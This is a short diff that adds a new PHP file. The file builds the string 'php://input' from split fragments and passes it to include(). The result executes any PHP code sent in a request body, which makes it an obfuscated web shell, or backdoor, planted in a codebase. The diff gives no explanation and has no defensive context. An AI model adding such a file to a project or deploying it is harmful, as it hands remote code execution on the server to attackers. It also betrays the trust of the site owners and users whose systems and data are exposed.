@@ -1,0 +1,4 @@
+<?php
+$s = 'ph' . 'p';
+$w = $s . ':/' . '/in' . 'put';
+include($w);
